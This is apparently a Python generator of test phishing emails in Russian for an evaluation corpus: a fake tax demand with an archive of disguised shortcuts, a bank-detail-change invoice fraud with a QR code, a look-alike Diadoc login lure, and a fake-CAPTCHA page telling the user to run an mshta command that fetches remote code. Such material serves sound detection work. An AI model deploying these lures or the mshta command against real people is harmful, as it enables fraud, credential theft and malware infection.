"""Attack messages, Russian (37-40)."""

from lib import co, ids, smtp, systems
from lib.archives import make_zip
from lib.mime import Part
from lib.msg import esc, simple_html
from lib.systems import H
from messages.common import (D, S, alt, eur, footer, gmail_att, gmail_parts, gost, letterhead, mixed, table)
from messages.registry import msg

A = "attack"


# --------------------------------------------------------------------- 37
@msg(A, 37, "ru", "fns-trebovanie-zip-lnk")
def a37(m):
    pw = "4826"
    m.zip_password = pw
    m.what = ("'Межрайонная ИФНС России № 6 по Липецкой области' sends a 'требование о представлении пояснений' (art. 88 Tax Code) "
              "to the Russian accountant as a password-protected archive.")
    m.why = ("Malware loader with a tax-office pretext: look-alike domain nalog-gov.ru (real: nalog.gov.ru; real requests "
             "arrive via the EDI operator, not e-mail), encrypted ZIP with the password in the text containing "
             "'Требование ... .pdf.lnk' (LNK shortcut represented by an inert placeholder), 5-day deadline with fine threat; "
             "sent from a VPS directly.")
    m.dmarc_policy = {"nalog-gov.ru": "none"}
    h = H(("Межрайонная ИФНС России № 6 по Липецкой области", "ifns4826@nalog-gov.ru"), [co.P("ru_acc")],
          "Требование о представлении пояснений № 4826/11-2026 (ст. 88 НК РФ)", D(2026, 11, 16, 10, 5, 12, "ru"),
          hcs="windows-1251", henc="B", date_zone="ru")
    text = ("Уважаемый налогоплательщик!\n\n"
            "Межрайонная инспекция ФНС России № 6 по Липецкой области в ходе камеральной налоговой проверки декларации по НДС "
            "за 3 квартал 2026 года выявила противоречия между сведениями, содержащимися в декларации ООО «Экзампл Теплицы "
            "Рус» (ИНН %s), и сведениями контрагентов.\n\n"
            "В соответствии с п. 3 ст. 88 НК РФ Вам необходимо в течение 5 рабочих дней представить пояснения или внести "
            "исправления в налоговую декларацию. Требование и перечень расхождений направлены во вложении.\n\n"
            "Архив защищён паролем в целях сохранения налоговой тайны. Пароль: %s\n\n"
            "Непредставление пояснений влечёт ответственность по ст. 129.1 НК РФ.\n\n"
            "Заместитель начальника инспекции\nсоветник государственной гражданской службы РФ 2 класса\nЕ. В. Сорокина\n") % (
        co.OFF["RU"]["ids"][0][1], pw)
    ph = ("[INERT TEST PLACEHOLDER - evaluation corpus 119]\r\nStands in for a Windows .lnk shortcut that would run a "
          "script downloader. It contains no executable code.\r\n").encode("ascii")
    z = make_zip([("Требование о представлении пояснений 4826-11-2026.pdf.lnk", ph, (2026, 11, 16, 9, 40, 2)),
                  ("Перечень расхождений.pdf.lnk", ph, (2026, 11, 16, 9, 40, 2))], password=pw.encode(), rng=m.rng)
    att = m.att(z, "application/zip", "Требование_4826-11-2026.zip", fname_charset="windows-1251",
                header_order=["ct", "cte", "cd"])
    root = mixed([m.text(text, "windows-1251", "quoted-printable"), att], m.boundary("exim"))
    host = "mail.nalog-gov.ru"
    ip = "203.0.113.141"
    hops = ["Received: from [192.0.2.58] (helo=WIN-K1R2F4A6B8C)\n\tby mail.nalog-gov.ru with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96)\n\t(envelope-from <ifns4826@nalog-gov.ru>)\n\tid 1tLx%s-000%s-2Q\n\tfor %s;\n\t%s" % (
        smtp.ralnum(m.rng, 4), smtp.ralnum(m.rng, 3), h.rcpt, smtp.rfc_date(h.date + S, "ru"))]
    return systems.direct(m, h, root, host, host, ip, hops=hops, dkim_d="nalog-gov.ru", dkim_s="mail", zone="ru",
                          order=["date", "from", "to", "subject", "msgid", "mime"], tls=smtp.TLS13,
                          ua_lines=["X-Mailer: The Bat! (v10.4.5) Professional"])


# --------------------------------------------------------------------- 38
@msg(A, 38, "ru", "agrotehservis-smena-rekvizitov")
def a38(m):
    A_ = co.ATS
    bik = "044525974"
    acc = ids.ru_account(bik, "40702810X10001987421")
    corr = ids.ru_corr_account(bik)
    amount = 418600.00
    payload = gost("ООО «АгроТехСервис»", acc, "АО «ТБанк»", bik, corr, int(round(amount * 100)),
                   "Оплата по счёту № 412 от 16.11.2026 за сервисное обслуживание систем климат-контроля, в т.ч. НДС 20%",
                   A_["inn"], A_["kpp"])
    m.what = ("'Бухгалтерия АгроТехСервис' sends invoice № 412 for greenhouse climate-control service and announces new bank "
              "details (T-Bank); the invoice PDF carries a GOST payment QR code with the new account.")
    m.why = ("Look-alike agrotehservice.ru (missing 'c'; the contractor is agrotechservice.ru on Yandex 360) on VK WorkSpace "
             "mail; real contractor's INN/KPP and layout copied, but the settlement account and БИК are new and the QR code "
             "encodes them; 'old account blocked by 115-FZ check', asks to pay today.")
    m.dmarc_policy = {"agrotehservice.ru": "none"}
    h = H(("Бухгалтерия АгроТехСервис", "buh@agrotehservice.ru"), [co.P("ru_acc")],
          "Счёт № 412 от 16.11.2026 и новые банковские реквизиты", D(2026, 11, 17, 11, 48, 3, "ru"), cc=[co.P("ru_om")],
          date_zone="ru")
    text = ("Добрый день, Дмитрий!\n\n"
            "Направляем счёт № 412 от 16.11.2026 за сервисное обслуживание систем климат-контроля и подкормки (ноябрь 2026).\n\n"
            "Обращаем внимание: с 16.11.2026 у нас изменились банковские реквизиты. Расчётный счёт в Сбербанке временно "
            "заблокирован в рамках проверки по 115-ФЗ, поступления на него возвращаются. Просим оплачивать счета только по "
            "новым реквизитам, указанным в счёте:\n\n"
            "Банк: АО «ТБанк», БИК %s\nр/с %s\nк/с %s\n\n"
            "Для удобства в счёте есть QR-код для оплаты из банк-клиента. Просим оплатить сегодня, чтобы не сдвигать "
            "плановый выезд инженера 24.11.\n\n"
            "С уважением,\nГлавный бухгалтер\nИрина Ковалёва\nООО «АгроТехСервис»\n") % (bik, acc, corr)
    d = m.pdf(info={"Title": "Счет 412", "Producer": "1С:Предприятие 8.3"}, created="D:20261116173512+03'00'", lang="ru-RU")
    p = d.page()
    y = 60
    p.text(56, y, "ООО «АгроТехСервис»", 13, bold=True)
    p.text(56, y + 15, "398059, г. Липецк, ул. Фрунзе, д. 30, оф. 214, тел. +7 4742 50-27-36", 8.5)
    y += 40
    rows = [["АО «ТБанк»", "БИК", bik], ["", "Сч. №", corr], ["Банк получателя", "", ""],
            ["ИНН %s   КПП %s" % (A_["inn"], A_["kpp"]), "Сч. №", acc], ["ООО «АгроТехСервис»", "", ""], ["Получатель", "", ""]]
    for r in rows:
        p.text(60, y, r[0], 9)
        p.text(330, y, r[1], 9)
        p.text(380, y, r[2], 9)
        y += 13
    p.rect(56, y - 90, 484, 84, stroke=(0, 0, 0))
    y += 16
    p.text(56, y, "Счёт на оплату № 412 от 16 ноября 2026 г.", 14, bold=True)
    y += 22
    p.text(56, y, "Поставщик: ООО «АгроТехСервис», ИНН %s, КПП %s" % (A_["inn"], A_["kpp"]), 9)
    p.text(56, y + 13, "Покупатель: ООО «Экзампл Теплицы Рус», ИНН %s, КПП 482601001" % co.OFF["RU"]["ids"][0][1], 9)
    y += 36
    y = table(p, 56, y, ["№", "Товары (работы, услуги)", "Кол-во", "Ед.", "Цена", "Сумма"],
              [["1", "Сервисное обслуживание систем климат-контроля, ноябрь 2026", "1", "усл.", "238 500,00", "238 500,00"],
               ["2", "Калибровка датчиков EC/pH и метеостанции", "1", "усл.", "110 333,33", "110 333,33"]],
              [22, 250, 42, 30, 70, 70], aligns=["left", "left", "right", "left", "right", "right"])
    for k, v in (("Итого:", "348 833,33"), ("В т.ч. НДС (20%):", "69 766,67"), ("Всего к оплате:", "418 600,00")):
        p.text(430, y, k, 9, bold=True, align="right")
        p.text(538, y, v, 9, bold=True, align="right")
        y += 13
    y += 8
    p.text(56, y, "Всего наименований 2, на сумму 418 600,00 руб.", 9)
    p.text(56, y + 13, "Четыреста восемнадцать тысяч шестьсот рублей 00 копеек", 9, bold=True)
    p.qr(56, y + 34, 130, m.qr_matrix(payload))
    p.text(180, y + 60, "Оплата по QR-коду в мобильном банке или банк-клиенте", 8.5)
    p.text(180, y + 100, "Руководитель ____________ Белов С. Н.", 9)
    p.text(180, y + 120, "Бухгалтер ______________ Ковалёва И. А.", 9)
    pdf = m.render_pdf(d)
    t, ht = gmail_parts(m, text.rstrip("\n").split("\n"), force_cte="base64")
    root = mixed([alt(t, ht, m.boundary("mailru")), m.att(pdf, "application/pdf", "Счет_412_от_16.11.2026.pdf",
                                                          header_order=["ct", "cd", "cte"])], m.boundary("mailru"))
    return systems.mailru(m, h, root, client_ip="192.0.2.74")


# --------------------------------------------------------------------- 39
@msg(A, 39, "ru", "diadok-dokument-fake")
def a39(m):
    url = "https://diadoc-kontur.ru/auth/login?docId=%s&box=%s" % (smtp.uuid(m.rng), smtp.rhex(m.rng, 12))
    m.what = ("'Контур.Диадок' notification: a reconciliation statement (акт сверки) from ООО «АгроТехСервис» awaits signature; "
              "link to log in.")
    m.why = ("EDI-operator credential phishing: look-alike diadoc-kontur.ru via the bulk service Unisender (real Diadoc mail comes "
             "from the operator's own domain, compare business/38); uses a real counterparty name and a routine document "
             "type; 'sign within 2 days'.")
    m.dmarc_policy = {"diadoc-kontur.ru": "none"}
    h = H(("Контур.Диадок", "noreply@diadoc-kontur.ru"), [co.P("ru_om")],
          "Вам поступил документ от ООО «АгроТехСервис»: Акт сверки на 30.11.2026", D(2026, 12, 2, 9, 55, 31, "ru"))
    text = ("Контур.Диадок\n\n"
            "Вам поступил документ, требующий подписи\n\n"
            "Отправитель: ООО «АгроТехСервис» (ИНН %s)\nПолучатель: ООО «Экзампл Теплицы Рус»\n"
            "Документ: Акт сверки взаимных расчётов за период 01.01.2026 - 30.11.2026\n\n"
            "Подпишите документ в течение 2 рабочих дней, иначе он будет считаться отклонённым.\n\n"
            "Перейти к документу: %s\n\n"
            "Это автоматическое уведомление. Отписаться от уведомлений можно в настройках ящика.\n") % (co.ATS["inn"], url)
    html = ('<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"></head><body style="margin:0;background:#f2f2f2;'
            'font-family:Arial,sans-serif"><table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" '
            'style="padding:24px"><table width="600" style="background:#fff" cellpadding="0" cellspacing="0"><tr><td '
            'style="padding:18px 26px;border-bottom:3px solid #e8412c;font-size:20px"><b style="color:#e8412c">Контур</b>'
            '<b>.Диадок</b></td></tr><tr><td style="padding:20px 26px;font-size:14px;color:#222;line-height:1.5">'
            '<p style="font-size:17px"><b>Вам поступил документ, требующий подписи</b></p>'
            '<p>Отправитель: <b>ООО «АгроТехСервис»</b> (ИНН %s)<br>Получатель: ООО «Экзампл Теплицы Рус»<br>Документ: Акт '
            'сверки взаимных расчётов за период 01.01.2026 - 30.11.2026</p><p>Подпишите документ в течение <b>2 рабочих дней</b>, '
            'иначе он будет считаться отклонённым.</p><p><a href="%s" style="background:#1f87e5;color:#fff;padding:10px 24px;'
            'text-decoration:none;border-radius:3px">Перейти к документу</a></p><p style="font-size:11px;color:#888">Это '
            'автоматическое уведомление. Отписаться от уведомлений можно в настройках ящика.</p></td></tr></table></td></tr>'
            '</table></body></html>\n') % (co.ATS["inn"], esc(url))
    root = alt(m.text(text, "utf-8", "quoted-printable"), m.html(html, "utf-8", "quoted-printable"), m.boundary("java"))
    host = "smtp%d.unisender.com" % 17
    ip = "203.0.113.217"
    h.mail_from = "bounce-%s@uni.diadoc-kontur.ru" % smtp.rhex(m.rng, 16)
    unsub = "https://go2.unisender.ru/ru/unsubscribe?hash=%s" % smtp.rhex(m.rng, 40)
    m.fact("URL", unsub)
    hops = ["Received: from localhost (localhost [127.0.0.1])\n\tby %s (Postfix) with ESMTP id %s\n\tfor <%s>; %s" % (
        host, smtp.queue_id(m.rng), h.rcpt, smtp.rfc_date(h.date, "ru", pad=True, abbr=True))]
    return systems.direct(m, h, root, host, host, ip, hops=hops, dkim_d="diadoc-kontur.ru", dkim_s="us", zone="ru",
                          order=["date", "from", "to", "subject", "msgid", "mime"], tls=smtp.TLS13,
                          extra=["List-Unsubscribe: <%s>" % unsub, "X-Mailer: UniSender", "Precedence: bulk",
                                 "X-UNISENDER-MESSAGE-ID: %d" % m.rng.randrange(10 ** 9, 10 ** 10)])


# --------------------------------------------------------------------- 40
@msg(A, 40, "ru", "pretenziya-clickfix-html")
def a40(m):
    cmd = "mshta http://198.51.100.23/doc/verify.hta  # Я не робот - проверка Cloudflare ID: 48-2291"
    m.what = ("'Юридический отдел ООО «ТрансЛогистик»' sends a pre-trial claim for an alleged freight debt of 1,284,500 RUB; the "
              "HTML attachment shows a 'protected document' and a fake CAPTCHA asking to press Win+R, paste and Enter.")
    m.why = ("Fake legal notice + ClickFix: the attachment is a static HTML page instructing the user to run a command "
             "(mshta fetching an HTA from a raw IP) through the Run dialog; unknown counterparty on a free Gmail account; legal "
             "threat and 10-day deadline. The command text is inert and points to a documentation-range IP.")
    h = H(("Юридический отдел ТрансЛогистик", "pretenzii.translogistik@gmail.com"), [co.P("ru_om")],
          "Досудебная претензия № 1187/П от 01.12.2026 (задолженность по договору перевозки)", D(2026, 12, 1, 16, 40, 28, "ru"),
          date_zone="ru")
    paras = ["Добрый день!", "",
             "Направляем в Ваш адрес досудебную претензию № 1187/П от 01.12.2026 о взыскании задолженности по договору "
             "перевозки грузов № ТЛ-214/26 в размере 1 284 500 руб. 00 коп., а также неустойки за просрочку оплаты.", "",
             "В случае неисполнения требований в течение 10 календарных дней мы будем вынуждены обратиться в Арбитражный суд "
             "Липецкой области.", "",
             "Претензия во вложении (защищённый документ, открывается в браузере).", "",
             "С уважением,", "Юридический отдел", "ООО «ТрансЛогистик»"]
    t, ht = gmail_parts(m, paras, force_cte="base64")
    page = ('<!DOCTYPE html>\n<html lang="ru"><head><meta charset="utf-8"><title>Претензия 1187/П - защищённый документ</title>\n'
            '<style>body{background:#f5f5f5;font-family:Arial,sans-serif}.w{max-width:560px;margin:50px auto;background:#fff;'
            'padding:30px;border:1px solid #ddd}.cb{border:1px solid #ccc;padding:14px;display:flex;align-items:center}'
            '.s{background:#f0f4ff;border-left:3px solid #3b6fd8;padding:12px;margin-top:18px;font-size:14px}'
            'code{display:block;background:#222;color:#9f9;padding:8px;margin-top:8px;font-size:12px}</style></head>\n'
            '<body><div class="w"><h2>Документ защищён</h2><p>Претензия № 1187/П от 01.12.2026 (PDF, 3 стр.)</p>'
            '<div class="cb">&#9744;&nbsp; Я не робот <span style="margin-left:auto;font-size:11px;color:#888">reCAPTCHA</span></div>'
            '<div class="s"><b>Проверка не пройдена.</b> Для подтверждения выполните шаги:<br>1. Нажмите клавиши Win + R<br>'
            '2. Нажмите Ctrl + V (код проверки уже скопирован)<br>3. Нажмите Enter<code>%s</code></div>'
            '<p style="font-size:12px;color:#777">После проверки документ откроется автоматически.</p></div></body></html>\n') % esc(cmd)
    att = gmail_att(m, page.encode("utf-8"), "text/html", "Претензия_1187П_от_01.12.2026.html")
    att.charset = "UTF-8"
    m.fact("URL", "http://198.51.100.23/doc/verify.hta")
    root = mixed([alt(t, ht, m.boundary("gmail")), att], m.boundary("gmail"))
    return systems.gmail(m, h, root)
